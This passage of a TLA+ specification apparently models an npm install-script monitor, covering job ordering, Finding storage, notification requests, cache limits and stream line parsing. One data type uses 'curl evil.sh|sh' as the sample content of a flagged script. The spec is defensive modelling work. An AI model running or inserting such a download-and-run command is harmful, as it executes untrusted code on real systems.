Saves(handler) == handler \in {"worker", "piscina-worker"}

(* the loop over the script types; if (alerts.length > 0) *)
StepDiff ==
  /\ call.fn = "job" /\ ret.at = "diff"
  /\ Stepped("diff", IF call.n = 0 THEN "done"
                     ELSE IF Saves(call.handler) THEN "save"
                     ELSE "send")
  /\ UNCHANGED << call, pipeVars >>

(* for (const alert of alerts) await saveFinding(finding): one alert *)
StepSave ==
  /\ call.fn = "job" /\ ret.at = "save"
  /\ ret' = [ret EXCEPT !.steps = Append(@, "persist"),
                        !.saved = @ + 1,
                        !.at = IF ret.saved + 1 = call.n THEN "send"
                               ELSE "save"]
  /\ UNCHANGED << call, pipeVars >>

(* await sendCombinedScriptAlertNotifications(...); the pool's handler then
   iterates what came back *)
StepSend ==
  /\ call.fn = "job" /\ ret.at = "send"
  /\ Stepped("dispatch",
             IF EndsByThrowing(IF call.handler = "piscina-worker"
                                 THEN "pending" ELSE "queue", 1..call.n)
               THEN "threw" ELSE "done")
  /\ UNCHANGED << call, pipeVars >>

NextSteps == StepFetch \/ StepResolve \/ StepDiff \/ StepSave \/ StepSend

SpecSteps == InitSteps /\ [][NextSteps]_vars

(* the place of a step in the order fetch, resolve, diff, dispatch, persist *)
Rank(step) ==
  CASE step = "fetch" -> 1
    [] step = "resolve" -> 2
    [] step = "diff" -> 3
    [] step = "dispatch" -> 4
    [] step = "persist" -> 5

(* C30: the steps of one job run in the order fetch, resolve, diff,
   dispatch, persist. *)
C30_StepsInOrder ==
  (call.fn = "job" /\ ret.by = "job") =>
     \A i, j \in 1..Len(ret.steps) :
        i < j => Rank(ret.steps[i]) <= Rank(ret.steps[j])

(* ---------------- the delay and the limiter's slots -------------------- *)
(* the jobs of a list that are still waiting out their delay *)
Delaying(js) == {i \in 1..Len(js) : ~Elapsed(clock, js[i].name)}

(* C31: waiting out the delay takes no worker capacity: when as many jobs
   as the concurrency limit are in their delay and a job whose delay is
   over waits in the queue, that job can start. *)
C31_DelayTakesNoSlot ==
  ( /\ deployment = "monitor"
    /\ clock.kept
    /\ Cardinality(Delaying(active)) = Concurrency
    /\ \E i \in 1..Len(queue) : Elapsed(clock, queue[i].name) )
  => ENABLED StartJob

(* ---------------- rows that are skipped -------------------------------- *)
Skipped(id) == id \in DesignIds \cup NonStringIds

AllJobs == JobNames(queue) \cup JobNames(active) \cup JobNames(replay)

(* C32: a row of a design document, or with an id that is no string, is
   never enqueued or scanned, and the loop goes on to the next row of the
   batch after it. *)
C32_SkippedRowsOnly ==
  /\ [](\A id \in Ids : Skipped(id) => id \notin AllJobs)
  /\ [][(HandoffRow /\ Skipped(batch[ri + 1])) =>
          /\ queue' = queue
          /\ ri' = ri + 1
          /\ ri + 1 < Len(batch) => pc' = "handoff"]_vars
  /\ []((pc = "handoff" /\ ri < Len(batch)) => ENABLED HandoffRow)

(* the row after a skipped one was enqueued *)
C32_Witness ==
  /\ Len(batch) = 2
  /\ Skipped(batch[1])
  /\ ri = 2
  /\ batch[2] \in JobNames(queue)

(* ---------------- marking a Finding as delivered ----------------------- *)
MarkVersions == {1, 2}

FindingRecords ==
  [packageName : Names, version : MarkVersions,
   scriptType : SeqToSet(ScriptTypes), scriptContent : {"curl evil.sh|sh"},
   issuesend : BOOLEAN]

FindingStores == UNION {[1..n -> FindingRecords] : n \in 0..MaxRecords}

MarkCalls ==
  [fn : {"mark"}, store : FindingStores, packageName : Names,
   version : MarkVersions, scriptType : SeqToSet(ScriptTypes),
   status : BOOLEAN]

InitMark == IdleAt("pending") /\ call \in MarkCalls /\ ret = NoRet

MarkDelivered ==
  /\ call.fn = "mark" /\ ret = NoRet
  /\ ret' = [by |-> "mark"] @@
            updateFindingIssueStatus(call.store, call.packageName,
                                     call.version, call.scriptType,
                                     call.status)
  /\ UNCHANGED << call, pipeVars >>

SpecMark == InitMark /\ [][MarkDelivered]_vars

(* the indexes at which the file differs from what it was *)
Touched == {k \in 1..Len(call.store) : ret.file[k] # call.store[k]}

(* C33: updateFindingIssueStatus changes the issuesend flag of at most one
   Finding, one with the key it was given, and nothing else: every other
   field, every other Finding and the order stay, and without a Finding of
   that key nothing is written. *)
C33_OnlyTheFlagOfOneMatch ==
  ret.by = "mark" =>
    LET hits == Matches(call.store, call.packageName, call.version,
                        call.scriptType)
    IN /\ Len(ret.file) = Len(call.store)
       /\ Cardinality(Touched) <= 1
       /\ \A k \in Touched :
             /\ k \in hits
             /\ ret.file[k] = [call.store[k] EXCEPT !.issuesend = call.status]
       /\ hits = {} => (~ret.wrote /\ ret.file = call.store)
       /\ hits # {} => ret.wrote

(* two Findings have the key and the flag of one of them changed *)
C33_Witness ==
  /\ ret.by = "mark"
  /\ Cardinality(Matches(call.store, call.packageName, call.version,
                         call.scriptType)) = 2
  /\ Cardinality(Touched) = 1

(* ---------------- saveFinding, one call after another or overlapping --- *)
MaxSaves == 3
MaxSavers == 2

Savers == 1..MaxSavers

(* the saveFinding of lib/db.ts (through the Db object, which keeps the
   last array it read or wrote) and the one of index.ts and the old db
   module (readFile / writeFile inline) *)
SaveImpls == {"Db", "inline"}

(* a file of an earlier run with one Finding, numbered 0, or no file *)
SaveCalls == [fn : {"save"}, impl : SaveImpls, before : {<< >>, << 0 >>}]

IdleSaver == [at |-> "idle", f |-> 0, ref |-> 0]

(* arrays in memory are numbered by the Finding whose call made them;
   content = 0 is the Db object before its first read or write *)
InitSave ==
  /\ IdleAt("monitor")
  /\ call \in SaveCalls
  /\ ret = [by |-> "save", file |-> call.before, content |-> 0,
            objs |-> [o \in 1..MaxSaves |-> << >>],
            jobs |-> [j \in Savers |-> IdleSaver], next |-> 1,
            order |-> << >>, overlapped |-> FALSE, readFailed |-> FALSE]

(* Db.read / the inline try-catch: the array the caller goes on with. A
   failed read (no file, unreadable, not JSON) gives the Db object's kept
   array, if it has one, else an empty array *)
ReadInto(impl, readOk, file, content, f) ==
  IF readOk THEN [ref |-> f, fresh |-> TRUE, from |-> file]
  ELSE IF impl = "Db" /\ content # 0
    THEN [ref |-> content, fresh |-> FALSE, from |-> << >>]
  ELSE [ref |-> f, fresh |-> TRUE, from |-> << >>]

(* const findings = await db.read(); findings.unshift(finding) *)
SaveReads(j) ==
  /\ call.fn = "save"
  /\ ret.jobs[j].at = "idle"
  /\ ret.next <= MaxSaves
  /\ \E readOk \in BOOLEAN :
       LET f == ret.next
           r == ReadInto(call.impl, readOk, ret.file, ret.content, f)
           arr == IF r.fresh THEN r.from ELSE ret.objs[r.ref]
       IN ret' = [ret EXCEPT
                    !.jobs[j] = [at |-> "read", f |-> f, ref |-> r.ref],
                    !.objs[r.ref] = unshift(arr, f),
                    !.content = IF call.impl = "Db" /\ readOk THEN f ELSE @,
                    !.next = f + 1,
                    !.overlapped =
                       @ \/ \E k \in Savers : ret.jobs[k].at = "read",
                    !.readFailed = @ \/ ~readOk]
  /\ UNCHANGED << call, pipeVars >>

(* await db.write(findings): the whole array replaces the file *)
SaveWrites(j) ==
  /\ call.fn = "save"
  /\ ret.jobs[j].at = "read"
  /\ ret' = [ret EXCEPT
               !.file = ret.objs[ret.jobs[j].ref],
               !.content = IF call.impl = "Db" THEN ret.jobs[j].ref ELSE @,
               !.jobs[j] = IdleSaver,
               !.order = Append(@, ret.jobs[j].f)]
  /\ UNCHANGED << call, pipeVars >>

NextSave == \E j \in Savers : SaveReads(j) \/ SaveWrites(j)

SpecSave == InitSave /\ [][NextSave]_vars

RECURSIVE Reverse(_)
Reverse(s) == IF s = << >> THEN << >> ELSE Append(Reverse(Tail(s)), Head(s))

AllIdle == \A j \in Savers : ret.jobs[j].at = "idle"

C35_OverlappingSavesAllKept ==
  (call.fn = "save" /\ AllIdle /\ ~ret.readFailed) =>
     \A k \in 1..Len(ret.order) : ret.order[k] \in SeqToSet(ret.file)

(* C36: a call that does not overlap another leaves the file with its
   Finding on top of all that the file held, whether or not its read of
   the file succeeded. *)
C36_SaveKeepsWhatWasThere ==
  [][\A j \in Savers :
       (call.fn = "save" /\ SaveWrites(j) /\ ~ret.overlapped) =>
          ret'.file = << ret.jobs[j].f >> \o ret.file]_vars

(* ---------------- the in-process monitor's notifications for a flag ---- *)
FlagCalls ==
  [fn : {"flag"}, scriptType : SeqToSet(MonitorScriptTypes),
   telegramBotToken : BOOLEAN, telegramChatId : BOOLEAN,
   discordWebhookUrl : BOOLEAN, githubToken : BOOLEAN,
   repositoryUrl : BOOLEAN]

Req(sink, label) == << [sink |-> sink, label |-> label] >>

When(cond, reqs) == IF cond THEN reqs ELSE << >>

(* index.ts lines 459-591, the requests for one flagged key in the order
   they are awaited; every request sits in a try-catch of its own, so a
   failed one does not change which others are made *)
flagNotifications(c) ==
  LET github == c.githubToken /\ c.repositoryUrl IN
  When(c.telegramBotToken /\ c.telegramChatId, Req("telegram", c.scriptType))
  \o When(c.discordWebhookUrl,
          Req("discord", c.scriptType)
          \o When(c.discordWebhookUrl, Req("discord", "postinstall"))
          \o When(github, Req("github", "postinstall")))
  \o When(github,
          Req("github", c.scriptType)
          \o When(c.discordWebhookUrl, Req("discord", "preinstall"))
          \o When(github, Req("github", "preinstall")))

InitFlag == IdleAt("monitor") /\ call \in FlagCalls /\ ret = NoRet

NotifyFlag ==
  /\ call.fn = "flag" /\ ret = NoRet
  /\ ret' = [by |-> "flag", requests |-> flagNotifications(call)]
  /\ UNCHANGED << call, pipeVars >>

SpecFlag == InitFlag /\ [][NotifyFlag]_vars

SentTo(sink) == {k \in 1..Len(ret.requests) : ret.requests[k].sink = sink}

(* C37: one flagged key gives at most one Telegram message, at most one
   Discord message and at most one GitHub issue. *)
C37_OneRequestPerSink ==
  ret.by = "flag" =>
    \A sink \in {"telegram", "discord", "github"} :
       Cardinality(SentTo(sink)) <= 1

(* ---------------- the Finding of a flagged script ---------------------- *)
(* C38: in the in-process monitor every flagged key name@version:scriptType
   has a saved Finding of that package, version and script type, with the
   command of that script. *)
C38_FindingRecordsFlaggedType ==
  deployment = "monitor" =>
    \A key \in flagged :
       \E k \in 1..Len(findings) :
          /\ KeyOf(findings[k]) = key
          /\ findings[k].scriptContent =
                getScript(Packument(key[1]), key[2], key[3])

(* ---------------- the monitor's cache and flagged set, job by job ------ *)
CacheCap == 1       \* maxCachePackages, scaled to the two package names
MaxScans == 3       \* jobs started in one process run

(* the packument with every version of the history published *)
FullDoc(n) ==
  [versions |-> [v \in 1..Len(History[n]) |-> History[n][v]],
   distTag |-> Len(History[n])]

FlagKeys == Names \X (1..MaxVersion) \X SeqToSet(MonitorScriptTypes)

CacheCalls == [fn : {"cache"}, cap : 1..CacheCap]

IdleScan == [at |-> "idle", name |-> "", left |-> << >>]

InitCache ==
  /\ IdleAt("monitor")
  /\ call \in CacheCalls
  /\ ret = [by |-> "cache", cache |-> [n \in Names |-> 0], flagged |-> {},
            times |-> [k \in FlagKeys |-> 0],
            jobs |-> [j \in Savers |-> IdleScan], started |-> 0,
            cleared |-> FALSE, rescanned |-> FALSE]

(* limit(async () => { ... await fetchPackument(...) *)
ScanFetches(j, name) ==
  /\ call.fn = "cache"
  /\ ret.jobs[j].at = "idle"
  /\ ret.started < MaxScans
  /\ ret' = [ret EXCEPT !.jobs[j] = [at |-> "fetch", name |-> name,
                                     left |-> MonitorScriptTypes],
                        !.started = @ + 1]
  /\ UNCHANGED << call, pipeVars >>

(* the for loop from the script types in left up to its next await: the
   first type that passes the three tests is flagged, the job then awaits
   saveFinding and the notifications *)
LoopOn(r, j, name, left) ==
  LET doc == FullDoc(name)
      vr == Resolved("monitor", doc)
      new == MonitorNew(doc, name, vr.latest, vr.previous, r.flagged)
      todo == SelectSeq(left, LAMBDA t : t \in SeqToSet(new))
  IN IF todo = << >> THEN [r EXCEPT !.jobs[j] = IdleScan]
     ELSE LET t == Head(todo)
              at == CHOOSE k \in 1..Len(left) : left[k] = t
              key == << name, vr.latest, t >>
          IN [r EXCEPT !.flagged = @ \cup {key},
                       !.times[key] = @ + 1,
                       !.jobs[j] = [at |-> "await", name |-> name,
                                    left |-> SubSeq(left, at + 1, Len(left))]]

(* fetchPackument returned: index.ts lines 408-439 run without an await *)
ScanLooksUp(j) ==
  /\ call.fn = "cache"
  /\ ret.jobs[j].at = "fetch"
  /\ LET name == ret.jobs[j].name
         vr == Resolved("monitor", FullDoc(name))
         set == CacheSetAt(call.cap, ret.cache, name, vr.latest)
     IN IF SeenAlready(ret.cache, name, vr.latest)
          THEN ret' = [ret EXCEPT !.jobs[j] = IdleScan]
          ELSE ret' = LoopOn([ret EXCEPT
                                !.cache = set,
                                !.cleared = @ \/ set[name] = 0,
                                !.rescanned =
                                   @ \/ \E k \in ret.flagged : k[1] = name],
                             j, name, ret.jobs[j].left)
  /\ UNCHANGED << call, pipeVars >>

(* the awaits of one flagged script are over: the loop goes on *)
ScanGoesOn(j) ==
  /\ call.fn = "cache"
  /\ ret.jobs[j].at = "await"
  /\ ret' = LoopOn(ret, j, ret.jobs[j].name, ret.jobs[j].left)
  /\ UNCHANGED << call, pipeVars >>

NextCache ==
  \E j \in Savers :
     \/ \E name \in Names : ScanFetches(j, name)
     \/ ScanLooksUp(j)
     \/ ScanGoesOn(j)

SpecCache == InitCache /\ [][NextCache]_vars

(* C39: when a job step ends the cache holds at most the allowed number of
   entries, and no key is flagged twice in one process run, whatever the
   cache forgot and however the jobs interleave. *)
C39_CacheBoundedFlagOnce ==
  ret.by = "cache" =>
    /\ Cardinality({n \in Names : ret.cache[n] # 0}) <= call.cap
    /\ \A k \in FlagKeys : ret.times[k] <= 1

(* the cache was cleared, and a package with a flagged key was scanned
   again as if it were new *)
C39_Witness ==
  /\ ret.by = "cache"
  /\ ret.cleared
  /\ ret.rescanned

(* ---------------- the streaming monitor's line parser ------------------ *)
MaxStream == 4      \* characters of the changes stream
MaxBuffer == 3      \* MAX_BUFFER, scaled to the stream

NL == "\n"
Chars == {"x", "y", " ", NL}

RECURSIVE StreamsOf(_)
StreamsOf(n) ==
  IF n = 0 THEN {<< >>}
  ELSE LET shorter == StreamsOf(n - 1)
       IN shorter \cup {Append(s, c) : s \in shorter, c \in Chars}

(* a line taken as it stands *)
noTrim(line) == line

(* String.prototype.trim on a line of the stream *)
RECURSIVE trimChars(_)
trimChars(line) ==
  IF line = << >> THEN line
  ELSE IF Head(line) = " " THEN trimChars(Tail(line))
  ELSE IF line[Len(line)] = " "
    THEN trimChars(SubSeq(line, 1, Len(line) - 1))
  ELSE line

(* String.prototype.indexOf, counted from 1; 0 when there is none *)
indexOf(buffer, c) ==
  IF \E k \in 1..Len(buffer) : buffer[k] = c
    THEN CHOOSE k \in 1..Len(buffer) :
           /\ buffer[k] = c
           /\ \A h \in 1..(k - 1) : buffer[h] # c
    ELSE 0

(* while ((idx = state.buffer.indexOf('\n')) >= 0) { ... } *)
RECURSIVE drain(_, _)
drain(buffer, lines) ==
  LET idx == indexOf(buffer, NL)
  IN IF idx = 0 THEN [buffer |-> buffer, lines |-> lines]
     ELSE LET line == trimChars(SubSeq(buffer, 1, idx - 1))
              rest == SubSeq(buffer, idx + 1, Len(buffer))
          IN drain(rest, IF line = << >> THEN lines ELSE Append(lines, line))

parseNdjsonLines(chunk, state) ==
  LET buffer == state.buffer \o chunk
  IN IF Len(buffer) > MaxBuffer
       THEN [buffer |-> << >>, lines |-> state.lines, reset |-> TRUE,
             carried |-> state.carried]
       ELSE LET d == drain(buffer, state.lines)
            IN [buffer |-> d.buffer, lines |-> d.lines,
                reset |-> state.reset,
                carried |-> \/ state.carried
                            \/ /\ trimChars(state.buffer) # << >>
                               /\ Len(d.lines) > Len(state.lines)]

NdjsonCalls == [fn : {"ndjson"}, stream : StreamsOf(MaxStream)]

InitNdjson ==
  /\ IdleAt("monitor")
  /\ call \in NdjsonCalls
  /\ ret = [by |-> "ndjson", pos |-> 0, buffer |-> << >>, lines |-> << >>,
            reset |-> FALSE, carried |-> FALSE]

(* res.on('data', (chunk) => parseNdjsonLines(chunk, state, onLine)) *)
OnData(n) ==
  /\ call.fn = "ndjson"
  /\ ret.pos + n <= Len(call.stream)
  /\ LET chunk == SubSeq(call.stream, ret.pos + 1, ret.pos + n)
         after == parseNdjsonLines(chunk, ret)
     IN ret' = [by |-> "ndjson", pos |-> ret.pos + n,
                buffer |-> after.buffer, lines |-> after.lines,
                reset |-> after.reset, carried |-> after.carried]
  /\ UNCHANGED << call, pipeVars >>

NextNdjson == \E n \in 1..MaxStream : OnData(n)

SpecNdjson == InitNdjson /\ [][NextNdjson]_vars

(* the lines of a stream, read character by character *)
Strip(line) ==
  LET inked == {k \in 1..Len(line) : line[k] # " "}
      first == CHOOSE f \in inked : \A g \in inked : f <= g
  IN IF inked = {} THEN << >> ELSE SubSeq(line, first, SetMax(inked))

RECURSIVE LinesOf(_, _, _)
LinesOf(stream, cur, out) ==
  IF stream = << >> THEN [buffer |-> cur, lines |-> out]
  ELSE IF Head(stream) = NL
    THEN LinesOf(Tail(stream), << >>,
                 IF Strip(cur) = << >> THEN out ELSE Append(out, Strip(cur)))
  ELSE LinesOf(Tail(stream), Append(cur, Head(stream)), out)

(* C40: as long as the buffer was never reset, the lines handed to the
   callback are the non-blank newline-terminated lines of the stream read so
   far, once each and in stream order, however the stream was cut into
   chunks, and the buffer holds the unfinished last line. *)
C40_LinesWhateverTheChunks ==
  (ret.by = "ndjson" /\ ~ret.reset) =>
    LET read == LinesOf(SubSeq(call.stream, 1, ret.pos), << >>, << >>)
    IN /\ ret.lines = read.lines
       /\ ret.buffer = read.buffer

(* a line that arrived in two chunks was delivered, a blank line was
   dropped, and an unfinished line waits in the buffer *)
C40_Witness ==
  /\ ret.by = "ndjson"
  /\ ~ret.reset
  /\ ret.carried
  /\ ret.buffer # << >>
  /\ Len(ret.lines) < Cardinality({k \in 1..ret.pos : call.stream[k] = NL})

====
